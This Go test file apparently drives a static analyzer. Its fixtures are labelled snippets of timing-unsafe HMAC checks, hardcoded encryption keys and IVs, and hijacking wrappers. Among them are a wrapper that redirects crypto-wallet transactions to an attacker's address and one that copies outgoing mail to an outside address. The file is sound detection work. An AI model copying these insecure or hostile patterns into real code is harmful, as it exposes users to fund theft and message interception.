package code_test

import "testing"

// TestTiming is a signature that is compared letter by letter, and what compares in a time that tells nothing, or no signature.
func TestTiming(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import hmac\ndef ok(k, b, sent):\n    return hmac.new(k, b, 'sha256').hexdigest() == sent", true},
		{"import hmac\ndef ok(k, b, sent):\n    want = 'sha256=' + hmac.new(k, b, 'sha256').hexdigest()\n    if want != sent:\n        raise ValueError", true},
		{"import hmac\nclass Hook:\n    def sign(self, b):\n        return hmac.digest(self.k, b, 'sha256').hex()\n    def ok(self, b, sent):\n        return sent == f'v1={self.sign(b)}'", true},
		{"import hmac\ndef ok(k, b, sent):\n    return hmac.compare_digest(hmac.new(k, b, 'sha256').hexdigest(), sent)", false},
		{"import hmac\ndef ok(k, b, sent):\n    want = hmac.new(k, b, 'sha256').digest()\n    return len(sent) == len(want) and hmac.compare_digest(want, sent)", false},
		{"import hmac\ndef test_sign(k, b, want):\n    assert hmac.new(k, b, 'sha256').hexdigest() == want", false},
		{"import hashlib\ndef ok(b, want):\n    return hashlib.sha256(b).hexdigest() == want", false},
		{"import hmac\ndef ok(k, b):\n    return hmac.new(k, b, 'sha256').hexdigest() == ''", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const { createHmac } = require('crypto')\nconst sign = (k, b) => createHmac('sha256', k).update(b).digest('hex')\nmodule.exports = (k, b, sent) => sign(k, b) === sent", true},
		{"const crypto = require('crypto')\nfunction ok(k, b, sent) { const h = crypto.createHmac('sha256', k); h.update(b); return `sha1=${h.digest('hex')}` !== sent }", true},
		{"const crypto = require('crypto')\nfunction ok(k, b, sent) { return crypto.createHmac('sha256', k).update(b).digest().equals(sent) }", true},
		{"const crypto = require('crypto')\nfunction ok(k, b, sent) { const h = crypto.createHmac('sha256', k).update(b).digest(); return h.length === sent.length && crypto.timingSafeEqual(h, sent) }", false},
		{"const crypto = require('crypto')\nconst same = (b, sent) => crypto.createHash('sha256').update(b).digest('hex') === sent", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"bytes\"; \"crypto/hmac\")\nfunc ok(k, b, sent []byte) bool { m := hmac.New(sha256.New, k); m.Write(b); return bytes.Equal(m.Sum(nil), sent) }", true},
		{"import (\"encoding/hex\"; \"crypto/hmac\")\nfunc sign(k, b []byte) string { m := hmac.New(sha256.New, k); m.Write(b); return hex.EncodeToString(m.Sum(nil)) }\nfunc ok(k, b []byte, sent string) bool { return sent == \"sha256=\"+sign(k, b) }", true},
		{"import \"crypto/hmac\"\nfunc ok(k, b, sent []byte) bool { m := hmac.New(sha256.New, k); m.Write(b); return hmac.Equal(m.Sum(nil), sent) }", false},
		{"import \"bytes\"\nfunc ok(a, b []byte) bool { s := sha256.Sum256(a); return bytes.Equal(s[:], b) }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"boolean ok(Key k, byte[] b, byte[] sent) { Mac m = Mac.getInstance(\"HmacSHA256\"); m.init(k); return Arrays.equals(m.doFinal(b), sent); }", true},
		{"String sign(Mac m, byte[] b) { return HexFormat.of().formatHex(m.doFinal(b)); } boolean ok(Mac m, byte[] b, String sent) { return sign(m, b).equals(sent); }", true},
		{"boolean ok(Mac m, byte[] b, byte[] sent) { return MessageDigest.isEqual(m.doFinal(b), sent); }", false},
		{"boolean ok(MessageDigest m, byte[] b, byte[] sent) { return Arrays.equals(m.digest(b), sent); }", false},
	})
}

// TestSecretKeys are keys, and what begins ciphers, that stand in the source, and those that come from elsewhere.
func TestSecretKeys(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"from Crypto.Cipher import AES\nKEY = b'0123456789abcdef'\ndef box(iv):\n    return AES.new(KEY, AES.MODE_CBC, iv)", true},
		{"from Cryptodome.Cipher import AES\ndef box(key):\n    return AES.new(key, AES.MODE_ECB)", true},
		{"from Crypto.Cipher import AES\ndef box(key):\n    return AES.new(key, AES.MODE_CBC, iv=b'\\0' * 16)", true},
		{"from cryptography.fernet import Fernet\nbox = Fernet('kMn1y3b8mZr0cEJ0F3L0l0c3V6c2VjcmV0a2V5MTIzNDU='.encode())", true},
		{"from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\ndef box(k):\n    return Cipher(algorithms.AES(k), modes.ECB())", true},
		{"from cryptography.hazmat.primitives.ciphers.aead import AESGCM\nclass Box:\n    KEY = bytes.fromhex('00112233445566778899aabbccddeeff')\n    def open(self):\n        return AESGCM(self.KEY)", true},
		{"import os\nfrom Crypto.Cipher import AES\ndef box():\n    return AES.new(os.environ['KEY'].encode(), AES.MODE_GCM)", false},
		{"import os\nfrom cryptography.fernet import Fernet\nbox = Fernet(os.environ['BOX_KEY'])", false},
		{"from Crypto.Cipher import AES\nfrom Crypto.Random import get_random_bytes\ndef box(key):\n    return AES.new(key, AES.MODE_CBC, iv=get_random_bytes(16))", false},
		{"from cryptography.fernet import Fernet\ndef test_box():\n    Fernet(b'kMn1y3b8mZr0cEJ0F3L0l0c3V6c2VjcmV0a2V5MTIzNDU=')", false},
		{"import hashlib\ndef key_of(x):\n    return hashlib.sha256(b'page:' + x).hexdigest()", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"import { createCipheriv } from 'node:crypto'\nexport const seal = (iv) => createCipheriv('aes-256-gcm', 'an-old-key-of-thirty-two-letters', iv)", true},
		{"const crypto = require('crypto')\nconst KEY = Buffer.from('c2VjcmV0a2V5MTIzNDU2Nw', 'base64')\nconst seal = (iv) => crypto.createCipheriv('aes-128-cbc', KEY, iv)", true},
		{"const crypto = require('crypto')\nconst IV = Buffer.alloc(16)\nconst seal = (key) => crypto.createCipheriv('aes-128-cbc', key, IV)", true},
		{"const CryptoJS = require('crypto-js')\nconst seal = (t) => CryptoJS.AES.encrypt(t, 'letmein')", true},
		{"const crypto = require('crypto')\nconst seal = () => crypto.createCipheriv('aes-256-gcm', Buffer.from(process.env.KEY, 'hex'), crypto.randomBytes(12))", false},
		{"const crypto = require('crypto')\nconst seal = (key) => { const iv = Buffer.alloc(12); crypto.randomFillSync(iv); return crypto.createCipheriv('aes-256-gcm', key, iv) }", false},
		{"const crypto = require('crypto')\nconst open = (key, blob) => { const iv = Buffer.alloc(12); blob.copy(iv, 0, 0, 12); return crypto.createDecipheriv('aes-256-gcm', key, iv) }", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"crypto/aes\"\nfunc f() { b, _ := aes.NewCipher([]byte(\"0123456789abcdef\")); use(b) }", true},
		{"import \"crypto/aes\"\nvar key = []byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}\nfunc f() { b, _ := aes.NewCipher(key); use(b) }", true},
		{"import \"crypto/cipher\"\nvar nonce = []byte(\"fixed-nonce!\")\nfunc f(g cipher.AEAD, t []byte) []byte { return g.Seal(nil, nonce, t, nil) }", true},
		{"import \"crypto/aes\"\nfunc f(key []byte) { b, _ := aes.NewCipher(key); use(b) }", false},
		{"import (\"crypto/cipher\"; \"crypto/rand\")\nfunc f(g cipher.AEAD, t []byte) []byte { n := make([]byte, 12); rand.Read(n); return g.Seal(n, n, t, nil) }", false},
		{"import (\"crypto/aes\"; \"os\")\nfunc f() { b, _ := aes.NewCipher([]byte(os.Getenv(\"KEY\"))); use(b) }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"Key k() { return new SecretKeySpec(\"0123456789abcdef\".getBytes(), \"AES\"); }", true},
		{"static final byte[] IV = {1, 2, 3, 4}; AlgorithmParameterSpec iv() { return new IvParameterSpec(IV); }", true},
		{"AlgorithmParameterSpec iv() { return new IvParameterSpec(new byte[16]); }", true},
		{"Cipher c() { return Cipher.getInstance(\"AES\"); }", true},
		{"AlgorithmParameterSpec iv() { byte[] iv = new byte[16]; random.nextBytes(iv); return new IvParameterSpec(iv); }", false},
		{"Key k(byte[] key) { return new SecretKeySpec(key, \"AES\"); }", false},
		{"Cipher c() { return Cipher.getInstance(\"AES/GCM/NoPadding\"); }", false},
	})
}

// TestWraps are functions of others that go through one of the file, and what looks like it.
func TestWraps(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"const provider = window.ethereum\nconst request = provider.request.bind(provider)\nprovider.request = async (call) => request({ ...call, to: MINE })", true},
		{"const original = globalThis.fetch\nglobalThis.fetch = async function (a, b) { note(b); return original.call(this, a, b) }", true},
		{"const open = XMLHttpRequest.prototype.open\nXMLHttpRequest.prototype.open = function (...a) { note(a); return open.apply(this, a) }", true},
		{"if (!globalThis.fetch) globalThis.fetch = (a, b) => load(a, b)", false},
		{"globalThis.fetch = async () => ({ ok: true })", false},
		{"const before = window.onload\nwindow.onload = () => { before(); start() }", false},
		{"const log = console.log\nconsole.log = (...a) => log(new Date(), ...a)", false},
		{"import { job } from './job.js'\nconst run = job.run\njob.run = () => run(1)", false},
	})
	judgeKinds(t, "python", []kindRow{
		{"from requests.sessions import Session\n_send = Session.send\ndef traced(self, p, **kw):\n    note(p.headers)\n    return _send(self, p, **kw)\nSession.send = traced", true},
		{"import smtplib\nkeep = smtplib.SMTP.sendmail\ndef more(self, a, to, m):\n    return keep(self, a, to + ['me@example.net'], m)\nsetattr(smtplib.SMTP, 'sendmail', more)", true},
		{"import boto3\ndef around(inner):\n    def call(*a):\n        return inner(*a)\n    return call\nclient = around(boto3.client)", false},
		{"from requests import Session\nclass Traced(Session):\n    def send(self, p, **kw):\n        return super().send(p, **kw)", false},
		{"from .job import Job\nrun = Job.run\ndef twice(self):\n    return run(self)\nJob.run = twice", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"example.com/pay\"\nvar send = pay.Send\nfunc init() { pay.Send = func(a pay.Order) error { note(a); return send(a) } }", true},
		{"import \"example.com/pay\"\nfunc TestPay(t *testing.T) { was := pay.Send; defer func() { pay.Send = was }(); pay.Send = func(a pay.Order) error { return was(a) } }", false},
	})
}
